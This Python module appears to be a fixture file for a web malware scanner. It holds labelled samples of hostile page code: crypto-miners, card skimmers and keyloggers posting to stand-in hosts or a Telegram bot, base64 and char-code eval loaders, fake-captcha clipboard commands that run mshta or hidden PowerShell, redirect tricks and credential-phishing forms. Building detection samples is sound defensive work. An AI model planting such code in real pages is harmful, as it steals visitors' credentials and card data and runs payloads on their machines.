"""Scripts and pages of harm, self-written in the manner of those in the wild, by what they do."""

import base64

HIDDEN = base64.b64encode(b"https://pustaka-kasir.example/g").decode()
AWAY = base64.b64encode(b"https://undian-harian.example/g").decode()
LOADED = base64.b64encode(
    b"var s=document.createElement('script');s.src='https://statik-jauh.example/a.js';document.head.appendChild(s)"
).decode()
CODES = ",".join(str(ord(c)) for c in "document.location='https://unduh-cepat.example/x'")

# (check, word of its summary, markup)
EVIL: dict[str, tuple[str, str, str]] = {
    "miner with a pool": (
        "CONTENT.SCRIPT",
        "penambang",
        "<script>var m=new WebSocket('wss://xmr.kolam.example:8443/');m.onmessage=e=>{var j=JSON.parse(e.data);w.postMessage({job_id:j.id,'nonce':0})}</script>",
    ),
    "miner of a known algorithm": (
        "CONTENT.SCRIPT",
        "penambang",
        "<script>var w=new Worker('k.js');w.postMessage({algo:'randomx',host:'wss://a.example'})</script>",
    ),
    "miner's library": (
        "CONTENT.SCRIPT",
        "penambang",
        "<script src='//statik.example/lib/coinhive.min.js'></script>",
    ),
    "miner's count": (
        "CONTENT.SCRIPT",
        "penambang",
        "<script>var k=new Mesin('a',{forceASMJS:true});new Worker('m.js');setInterval(()=>console.log(k.getHashesPerSecond()),1e3)</script>",
    ),
    "card fields to a hidden address": (
        "CONTENT.SCRIPT",
        "kartu",
        f"<script>document.addEventListener('change',e=>{{if(/cc_num|cvv/.test(e.target.name))fetch(atob('{HIDDEN}')+e.target.value)}})</script>",
    ),
    "all fields as a picture": (
        "CONTENT.SCRIPT",
        "kartu",
        "<script>document.addEventListener('submit',e=>{var d={};e.target.querySelectorAll('input').forEach(i=>d[i.name]=i.value);new Image().src='https://px.example/p?d='+btoa(JSON.stringify(d))},true)</script>",
    ),
    "password as it is typed": (
        "CONTENT.SCRIPT",
        "sandi",
        "<script>document.querySelector('#password').addEventListener('keyup',function(){navigator.sendBeacon('https://kumpul.example/k',this.value)})</script>",
    ),
    "password to a bot": (
        "CONTENT.SCRIPT",
        "sandi",
        "<script>f.addEventListener('submit',()=>fetch('https://api.telegram.org/bot1:AA/sendMessage?text='+password.value))</script>",
    ),
    "every key": (
        "CONTENT.SCRIPT",
        "ketikan",
        "<script>var b='';document.addEventListener('keypress',function(e){b+=e.key;if(b.length>20)fetch('https://kumpul.example/k?'+b)})</script>",
    ),
    "loader packed as base64": (
        "CONTENT.SCRIPT",
        "disamarkan",
        f"<script>eval(atob('{LOADED}'))</script>",
    ),
    "loader packed as codes": (
        "CONTENT.SCRIPT",
        "disamarkan",
        f"<script>eval(String.fromCharCode({CODES}))</script>",
    ),
    "loader of a broken picture": (
        "CONTENT.SCRIPT",
        "disamarkan",
        f"<img src=x onerror=\"eval(atob('{LOADED}'))\">",
    ),
    "forged update": (
        "CONTENT.SCRIPT",
        "pembaruan",
        "<h2>Your Chrome is out of date</h2><a href=/u/Chrome.zip>Update</a>",
    ),
    "a command that fetches a program, whatever the page says": (
        "CONTENT.REDIRECT",
        "robot",
        "<p>Satu langkah lagi, ikuti gambar.</p><script>k.onclick=()=>navigator.clipboard.writeText('mshta https://langkah-lagi.example/a.hta')</script>",
    ),
    "notifications whose answer leads to a stranger, whatever the page says": (
        "CONTENT.REDIRECT",
        "notifikasi",
        "<p>Tunggu sebentar.</p><script>Notification.requestPermission().then(function(){location.href='https://tunggu-sini.example/ok'})</script>",
    ),
    "false captcha": (
        "CONTENT.REDIRECT",
        "bukan robot",
        "<h2>Verify you are human</h2><ol><li>Press Windows + R</li><li>Press Ctrl + V</li></ol><script>k.onclick=()=>navigator.clipboard.writeText(x)</script>",
    ),
    "false captcha whose words a script writes": (
        "CONTENT.REDIRECT",
        "bukan robot",
        "<script>document.body.innerHTML='<b>Saya bukan robot</b><p>Tekan <b>Win</b> + <b>R</b>, tempel, Enter</p>';var t=document.createElement('textarea');t.value='powershell -w hidden -c iwr x';document.execCommand('copy')</script>",
    ),
    "forced notifications": (
        "CONTENT.REDIRECT",
        "notifikasi",
        '<h1>Klik "Izinkan" untuk membuktikan Anda bukan robot</h1><script>Notification.requestPermission()</script>',
    ),
    "phones are sent away": (
        "CONTENT.REDIRECT",
        "ponsel",
        "<script>if(/Android|iPhone/i.test(navigator.userAgent)){window.location='https://undian-harian.example/m'}</script>",
    ),
    "who comes from a search is sent away": (
        "CONTENT.REDIRECT",
        "mesin pencari",
        "<script>if(document.referrer.indexOf('google.')>-1){location.replace('https://undian-harian.example/g')}</script>",
    ),
    "small screens are sent away": (
        "CONTENT.REDIRECT",
        "ponsel",
        "<script>if(screen.width<=768){location.href='https://undian-harian.example/m'}</script>",
    ),
    "phones are sent to an address in a variable": (
        "CONTENT.REDIRECT",
        "ponsel",
        "<script>var u='https://undian-harian.example/m';if(/mobile|android/i.test(navigator.userAgent)){window.location.href=u}</script>",
    ),
    "who comes from a search is sent to a packed address": (
        "CONTENT.REDIRECT",
        "mesin pencari",
        f"<script>if(/google|bing|yahoo/.test(document.referrer)){{location.replace(atob('{AWAY}'))}}</script>",
    ),
    "a phone is sent away by a name of the window": (
        "CONTENT.REDIRECT",
        "ponsel",
        "<script>(function(){var m=/iphone|android/i.test(navigator.userAgent);if(m){window['location']['href']='https://'+'undian-harian'+'.example/m'}})()</script>",
    ),
    "any click opens a stranger": (
        "CONTENT.REDIRECT",
        "klik",
        "<script>document.addEventListener('click',function(){window.open('https://undian-harian.example/c')},{once:true})</script>",
    ),
    "the way back leads to a stranger": (
        "CONTENT.REDIRECT",
        "kembali",
        "<script>history.pushState(null,'',location.href);window.addEventListener('popstate',function(){location.href='https://undian-harian.example/b'})</script>",
    ),
    "sold to a market": (
        "CONTENT.REDIRECT",
        "bursa",
        "<script>setTimeout(function(){location.href='https://klik-laju.example/r?zoneid=77&subid=a1&cost=1'},9)</script>",
    ),
    "a market's tag": (
        "CONTENT.REDIRECT",
        "bursa",
        "<script>(function(d,z,s){s.dataset.zone=4455667;s.src='https://'+d+'/tag.min.js'})('a',1,document.createElement('script'));s.dataset.zone='4455667',s.src='https://klik-laju.example/tag.min.js'</script>",
    ),
    "credentials to a bot": (
        "CONTENT.PHISHING",
        "bot",
        "<form action='https://api.telegram.org/bot1:AA/sendMessage'><input name=nik><input name=password type=password></form>",
    ),
    "a code to a stranger": (
        "CONTENT.PHISHING",
        "pihak lain",
        "<form method=post action='https://cek-bantuan.example/p'><input name=nik><input name=kode_otp></form>",
    ),
    "a password to a bare address": (
        "CONTENT.PHISHING",
        "kotak sewaan",
        "<form method=post action='http://203.0.113.9/l.php'><input name=user><input name=pw type=password></form>",
    ),
    "a wallet's name": (
        "CONTENT.PHISHING",
        "bank atau dompet",
        "<title>Dompet Ombak</title><h1>Dompet Ombak</h1><form method=post action=p.php><input name=hp><input name=pin type=password></form>",
    ),
    "pressure and a card": (
        "CONTENT.PHISHING",
        "mendesak",
        "<h1>Pemberitahuan</h1><p>Kartu Anda diblokir dalam 2 jam. Isi formulir.</p><form method=post action=p.php><input name=nama><input name=nomor_kartu></form>",
    ),
}
